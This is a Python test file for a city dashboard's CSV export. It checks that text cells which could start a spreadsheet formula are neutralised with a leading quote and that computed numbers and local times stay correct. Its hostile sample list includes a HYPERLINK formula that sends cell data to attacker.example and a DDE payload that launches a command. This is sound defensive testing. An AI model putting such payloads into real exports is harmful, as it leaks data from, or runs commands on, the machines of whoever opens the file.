"""A CSV download carries no live spreadsheet formula (OWASP, "CSV Injection").

Text that starts with = + - @, a tab or a carriage return reaches the file behind a
single quote, through the export functions and through the app's own routes on a
store that holds such complaints; numbers the app computed (a negative longitude, a
falling change) stay numbers a spreadsheet can add up.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from city.records import Event
from kpis.records import RecordFilter
from kpis.values import KpiValue
from tests.conftest import PROXY_SIGN_IN, build_wall, wall_environment
from web.csv_export import neutralised, records_csv, tile_csv

# Titles a hostile or careless feed can send; each would run or be computed when
# staff open the CSV in a spreadsheet.
HOSTILE = (
    "=2+3",
    '=HYPERLINK("http://attacker.example/?"&A1,"details")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # blanks first: some programs skip them
    "＝1+1",  # full-width, as an IME types it
)
HARMLESS = (
    "가로등 고장 - 테헤란로 152",  # a dash inside is no formula
    "010-1234 is not a formula",
    "a=b",
    "'quoted already",
    "",
)
GANGNAM = "11680"
STAFF = {"X-Remote-User": "tester", "X-Remote-Role": "staff"}
NOW = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)


def rows_of(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def record(n: int, title: str, **fields) -> dict:
    """A row as the KPI layer answers it for a records CSV."""
    return {
        "id": n,
        "occurred_at": NOW,
        "category": "streetlights",
        "title": title,
        "status": "open",
        "severity": None,
        "district_code": GANGNAM,
        "closed_at": None,
        "lat": -2.19,  # Guayaquil: south of the equator, west of Greenwich
        "lon": -79.88,
    } | fields


class Answers:
    """The KPI layer reduced to what the export asks of it."""

    def __init__(self, records: list[dict] = (), tiles: list[KpiValue] = ()) -> None:
        self._records, self._tiles = list(records), list(tiles)

    def records(self, f: RecordFilter, limit: int | None = None) -> list[dict]:
        return self._records

    def tiles(self, district: str | None = None) -> list[KpiValue]:
        return self._tiles


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_is_put_behind_a_quote(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_as_it_is(text):
    assert neutralised(text) == text


def test_the_records_csv_neutralises_every_text_cell_of_a_feed(seoul):
    rows = [record(n, title) for n, title in enumerate(HOSTILE + HARMLESS)]
    rows.append(record(99, "ok", category="-injected", status="@open", severity="+1"))
    f = RecordFilter("complaints", None, None, "24h")
    written = rows_of(records_csv(Answers(rows), seoul, f, "ko"))

    titles = [r["title"] for r in written[: len(HOSTILE)]]
    assert titles == ["'" + t for t in HOSTILE]
    assert [r["title"] for r in written[len(HOSTILE) : -1]] == list(HARMLESS)
    last = written[-1]
    assert (last["category"], last["status"], last["severity"]) == (
        "'-injected",
        "'@open",
        "'+1",
    )


def test_a_line_break_inside_a_title_cannot_start_a_row_of_its_own(seoul):
    f = RecordFilter("complaints", None, None, "24h")
    sneaky = ["Pothole\r=2+3", "Pothole\n=2+3", "Pothole\r\n@SUM(1)"]
    rows = [record(n, title) for n, title in enumerate(sneaky)]
    body = records_csv(Answers(rows), seoul, f, "en")
    # quoted, a spreadsheet keeps the break inside the cell; bare, a CR ends the row
    assert all(f'"{title}"' in body for title in sneaky)
    assert [r["title"] for r in rows_of(body)] == sneaky


def test_numbers_the_app_holds_stay_numbers_even_when_negative(seoul):
    f = RecordFilter("complaints", None, None, "24h")
    (row,) = rows_of(records_csv(Answers([record(7, "=2+3")]), seoul, f, "es"))
    assert (row["id"], row["lat"], row["lon"]) == ("7", "-2.19", "-79.88")
    assert row["closed_at"] == ""
    assert row["district_name"] == "Gangnam-gu"


def test_times_are_the_citys_local_time_with_its_offset(seoul):
    # the screen shows Seoul's clock: so does the file, and the offset keeps the
    # instant exact for whatever program reads it
    f = RecordFilter("complaints", None, None, "24h")
    closed = NOW + timedelta(minutes=30)
    (row,) = rows_of(
        records_csv(Answers([record(7, "x", closed_at=closed)]), seoul, f, "ko")
    )
    assert row["occurred_at"] == "2026-11-20T12:00:00+09:00"
    assert row["closed_at"] == "2026-11-20T12:30:00+09:00"
    assert datetime.fromisoformat(row["occurred_at"]) == NOW


def test_a_title_the_simulator_made_is_in_the_downloads_language(seoul):
    f = RecordFilter("complaints", None, None, "24h")
    rows = [
        record(1, "Street light out", title_key="streetlights"),
        record(2, "Farola rota en la calle 9"),  # a feed's own title stays as sent
    ]
    shown = {
        lang: [r["title"] for r in rows_of(records_csv(Answers(rows), seoul, f, lang))]
        for lang in ("ko", "es", "en")
    }
    assert shown == {
        "ko": ["가로등 고장", "Farola rota en la calle 9"],
        "es": ["Luminaria apagada", "Farola rota en la calle 9"],
        "en": ["Street light out", "Farola rota en la calle 9"],
    }


def test_a_feed_number_sent_as_text_is_text_and_neutralised(seoul):
    # a severity of "-1" from a feed is text in the store: it gets the quote
    f = RecordFilter("complaints", None, None, "24h")
    rows = [record(1, "-1", severity="-1")]
    (row,) = rows_of(records_csv(Answers(rows), seoul, f, "en"))
    assert (row["title"], row["severity"]) == ("'-1", "'-1")


def test_the_tile_csv_keeps_a_falling_change_a_number_and_neutralises_text(seoul):
    falling = KpiValue("complaints_open", 80.0, 100.0, "=1+1", -5.0)
    (row,) = rows_of(
        tile_csv(Answers(tiles=[falling]), seoul, falling.kpi_id, None, "en")
    )
    assert float(row["change"]) == pytest.approx(-0.2)
    assert row["change"].startswith("-") and row["target"] == "-5.0"
    assert row["status"] == "'=1+1"  # the rule holds per cell, whoever wrote it
    assert row["value"] == "80.0" and row["stale"] == "False"


def test_the_tile_csv_says_since_when_it_is_stale_in_local_time(seoul):
    stale = KpiValue(
        "complaints_open", 80.0, None, "watch", None, stale=True, stale_since=NOW
    )
    (row,) = rows_of(tile_csv(Answers(tiles=[stale]), seoul, stale.kpi_id, None, "es"))
    assert row["stale_since"] == "2026-11-20T12:00:00+09:00"


# -- through the app's routes, on a store that holds hostile complaints --------------


@pytest.fixture(scope="module")
def staff(tmp_path_factory):
    """A test client signed in as staff by the proxy's headers, on a one-day store
    holding one complaint per hostile title."""
    from store import versions, writes
    from web import runtime

    with wall_environment(tmp_path_factory.mktemp("csv"), **PROXY_SIGN_IN):
        when = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)
        batch = [
            Event(
                source_id=f"csv-{n}",
                domain="complaints",
                category="streetlights",
                occurred_at=when,
                title=title,
                district_code=GANGNAM,
                lon=-79.88,
                lat=-2.19,
            )
            for n, title in enumerate(HOSTILE)
        ]
        with runtime.engine().begin() as conn:
            writes.upsert_events(conn, "csv-test", batch, when)
            versions.bump_data_version(conn)
        yield build_wall().server.test_client()


def test_the_records_download_serves_no_formula(staff):
    response = staff.get("/csv/records/complaints?period=24h", headers=STAFF)
    assert response.status_code == 200, response.text[:300]
    written = rows_of(response.get_data(as_text=True))
    assert sorted(r["title"] for r in written) == sorted("'" + t for t in HOSTILE)
    assert {(r["lat"], r["lon"]) for r in written} == {("-2.19", "-79.88")}


def test_the_tile_download_still_holds_plain_numbers(staff):
    response = staff.get(f"/csv/tile/complaints_open?district={GANGNAM}", headers=STAFF)
    assert response.status_code == 200, response.text[:300]
    (row,) = rows_of(response.get_data(as_text=True))
    assert float(row["value"]) == len(HOSTILE)  # the open complaints, as a number
    assert not any(cell.startswith("'") for cell in row.values())
